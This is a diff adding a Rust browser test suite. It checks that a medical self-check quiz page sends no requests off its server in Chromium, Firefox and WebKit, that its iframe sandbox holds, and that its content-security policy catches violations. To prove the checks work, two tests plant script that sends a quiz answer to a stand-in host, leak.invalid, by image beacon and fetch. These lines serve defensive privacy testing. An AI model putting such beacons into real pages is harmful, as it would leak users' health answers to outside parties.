@@ -1,0 +1,199 @@
+//! The same promises in Chromium, Firefox and WebKit, behind a proxy that sees every request.
+
+#![allow(clippy::unwrap_used, clippy::indexing_slicing)]
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::time::{Duration, Instant};
+
+use e2e::{Browser, Engine, Proxy, Server, Visitor, case, dist, with_probe};
+use serde_json::json;
+
+/// Each outcome, and a case that reaches it.
+const OUTCOMES: [(&str, &str); 7] = [
+    ("V01", "emergency"),
+    ("V23", "urgent"),
+    ("V35", "clinician"),
+    ("V47", "surgical_discussion"),
+    ("V53", "conservative"),
+    ("V61", "not_typical"),
+    ("V63", "prevention"),
+];
+
+const SANDBOX: &str = "allow-scripts allow-modals allow-downloads allow-top-navigation-by-user-activation";
+
+/// A page of nothing, which asks for no icon either.
+const BLANK: &str = "<!doctype html><meta charset=utf-8><link rel=icon href=data:,><title>blank</title>";
+
+/// Makes a test of each fact for each browser.
+macro_rules! in_every_browser {
+    ($($fact:ident),+) => {
+        in_every_browser!(@ chromium Chromium $($fact)+);
+        in_every_browser!(@ firefox Firefox $($fact)+);
+        in_every_browser!(@ webkit WebKit $($fact)+);
+    };
+    (@ $browser:ident $engine:ident $($fact:ident)+) => {
+        mod $browser {
+            $(
+                #[tokio::test]
+                async fn $fact() {
+                    super::$fact(e2e::Engine::$engine).await;
+                }
+            )+
+        }
+    };
+}
+
+in_every_browser!(
+    every_outcome_is_reached_and_nothing_is_asked_for,
+    a_request_from_such_a_frame_would_be_seen,
+    without_the_sandbox_there_is_only_the_leaflet,
+    a_whole_quiz_violates_no_policy,
+    a_violation_would_be_noticed
+);
+
+/// The dist folder and these pages.
+fn server(pages: &[(&str, &str)]) -> Server {
+    let pages = pages.iter().map(|(path, page)| ((*path).to_owned(), (*page).to_owned()));
+    Server::with_pages(dist(), pages.collect::<BTreeMap<_, _>>()).unwrap()
+}
+
+/// A page with a document in a frame with the very sandbox of the snippet.
+fn framed(document: &str) -> String {
+    format!("{BLANK}<iframe src='{document}' sandbox='{SANDBOX}' width=400 height=700></iframe>")
+}
+
+/// A browser that shows a page of nothing for as long as the other takes the quiz.
+struct Control {
+    browser: Browser,
+    proxy: Proxy,
+}
+
+impl Control {
+    async fn start(engine: Engine, server: &Server) -> Self {
+        let proxy = Proxy::before(server).await.unwrap();
+        let browser = Browser::start_as(engine, Some(&proxy)).await.unwrap();
+        browser.client.goto(&server.address("/blank.html")).await.unwrap();
+        Self { browser, proxy }
+    }
+
+    /// The hosts elsewhere that the browser asked for by itself.
+    async fn hosts(self, server: &Server) -> BTreeSet<String> {
+        self.browser.end().await.unwrap();
+        self.proxy.requests().iter().filter(|request| !is_to(server, request)).map(|request| host(request)).collect()
+    }
+}
+
+fn is_to(server: &Server, request: &str) -> bool {
+    request.contains(&format!(" {}", server.address("/")))
+}
+
+/// The host of `GET http://host/path` or of `CONNECT host:443`.
+fn host(request: &str) -> String {
+    let target = request.rsplit(' ').next().unwrap();
+    let from_host = target.split_once("://").map_or(target, |(_, rest)| rest);
+    from_host.split(['/', ':']).next().unwrap().to_owned()
+}
+
+/// How the requests for these files of the server are written down, in order of the alphabet.
+fn asked(server: &Server, paths: &[&str]) -> Vec<String> {
+    paths.iter().map(|path| format!("GET {}", server.address(path))).collect()
+}
+
+async fn every_outcome_is_reached_and_nothing_is_asked_for(engine: Engine) {
+    let server = server(&[("/blank.html", BLANK)]);
+    let control = Control::start(engine, &server).await;
+    let proxy = Proxy::before(&server).await.unwrap();
+    let browser = Browser::start_as(engine, Some(&proxy)).await.unwrap();
+    // Each load and each quiz adds to the log what is written here, and no line more to the test's server.
+    let (own, mut expected) = (|| proxy.requests().into_iter().filter(|one| is_to(&server, one)), Vec::new());
+    for (id, tier) in OUTCOMES {
+        let visitor = Visitor::on_page(&browser.client, &server.address("/plain.html")).await.unwrap();
+        let mut loaded: Vec<String> = own().skip(expected.len()).collect();
+        loaded.sort();
+        assert_eq!(loaded, asked(&server, &["/pars-check.en.html", "/plain.html", "/style.css"]), "{id}: at the load");
+        expected.extend(own().skip(expected.len()));
+        let (seen, _) = visitor.take(&case(id).unwrap()).await.unwrap();
+        assert_eq!(seen.outcome.as_deref(), Some(tier), "{id}");
+        visitor.press("restart").await.unwrap();
+        // What was asked for on the way, or on leaving, is in the log when the next page is there.
+        browser.client.goto(&server.address("/blank.html")).await.unwrap();
+        expected.extend(asked(&server, &["/blank.html"]));
+        assert_eq!(own().collect::<Vec<_>>(), expected, "{id}: after the load");
+    }
+    browser.end().await.unwrap();
+    let by_itself = control.hosts(&server).await;
+    let elsewhere = proxy.requests().into_iter().filter(|one| !is_to(&server, one) && !by_itself.contains(&host(one)));
+    assert_eq!(elsewhere.collect::<Vec<_>>(), Vec::<String>::new(), "on a blank page it asks for {by_itself:?}");
+}
+
+async fn a_request_from_such_a_frame_would_be_seen(engine: Engine) {
+    let leak = format!(
+        "{BLANK}<script>new Image().src = 'http://leak.invalid/?answer=35_49'; new Image().src = '/leak.png?answer=35_49'; \
+         fetch('https://leak.invalid/').catch(() => {{}})</script>"
+    );
+    let server = server(&[("/leak.html", &leak), ("/host.html", &framed("leak.html"))]);
+    let proxy = Proxy::before(&server).await.unwrap();
+    let browser = Browser::start_as(engine, Some(&proxy)).await.unwrap();
+    browser.client.goto(&server.address("/host.html")).await.unwrap();
+    let own = format!("GET {}", server.address("/leak.png?answer=35_49"));
+    for leaked in ["GET http://leak.invalid/?answer=35_49", &own, "CONNECT leak.invalid:443"] {
+        let end = Instant::now() + Duration::from_secs(15);
+        while !proxy.requests().iter().any(|request| request == leaked) {
+            assert!(Instant::now() < end, "{leaked} is not in {:?}", proxy.requests());
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+    }
+    browser.end().await.unwrap();
+}
+
+async fn without_the_sandbox_there_is_only_the_leaflet(engine: Engine) {
+    let frame =
+        |sandbox: &str| format!("{BLANK}<iframe src=pars-check.en.html {sandbox} width=400 height=700></iframe>");
+    let server = server(&[
+        ("/none.html", &frame("")),
+        ("/same-origin.html", &frame("sandbox='allow-scripts allow-same-origin'")),
+    ]);
+    let browser = Browser::start_as(engine, None).await.unwrap();
+    for page in ["/none.html", "/same-origin.html"] {
+        browser.client.goto(&server.address(page)).await.unwrap();
+        browser.client.enter_frame(0).await.unwrap();
+        let visitor = Visitor::outside(&browser.client);
+        let is_whole = "return document.readyState === 'complete' && !!document.getElementById('leaflet')";
+        visitor.until("the document", is_whole).await.unwrap();
+        let text = visitor.read_leaflet().await.unwrap();
+        assert!(text.contains("has removed the protection"), "{page}: {text}");
+    }
+    browser.end().await.unwrap();
+}
+
+/// Takes the longest quiz in a frame with the snippet's sandbox, with a script in the document that notes violations
+/// of the policy, and gives these.
+async fn violations(browser: &Browser, more: &str) -> serde_json::Value {
+    let probe = format!(
+        "window.violations = []; addEventListener('securitypolicyviolation', (event) => \
+         violations.push(event.effectiveDirective + ' ' + event.blockedURI)); {more}"
+    );
+    let document = std::fs::read_to_string(dist().join("pars-check.en.html")).unwrap();
+    let probed = with_probe(&document, &probe).unwrap();
+    let server = server(&[("/probed.html", &probed), ("/host.html", &framed("probed.html"))]);
+    let visitor = Visitor::on_page(&browser.client, &server.address("/host.html")).await.unwrap();
+    // The style stands before the probe: had it been refused, it would not be among the sheets.
+    assert_eq!(visitor.run("return document.styleSheets.length").await.unwrap(), 1);
+    let (seen, _) = visitor.take(&case("V47").unwrap()).await.unwrap();
+    assert_eq!(seen.outcome.as_deref(), Some("surgical_discussion"));
+    visitor.press("restart").await.unwrap();
+    visitor.run("return window.violations").await.unwrap()
+}
+
+async fn a_whole_quiz_violates_no_policy(engine: Engine) {
+    let browser = Browser::start_as(engine, None).await.unwrap();
+    assert_eq!(violations(&browser, "").await, json!([]));
+    browser.end().await.unwrap();
+}
+
+async fn a_violation_would_be_noticed(engine: Engine) {
+    let browser = Browser::start_as(engine, None).await.unwrap();
+    let found = violations(&browser, "new Image().src = 'http://leak.invalid/?answer=35_49'").await;
+    assert!(found[0].as_str().unwrap().starts_with("img-src http://leak.invalid/"), "{found}");
+    browser.end().await.unwrap();
+}
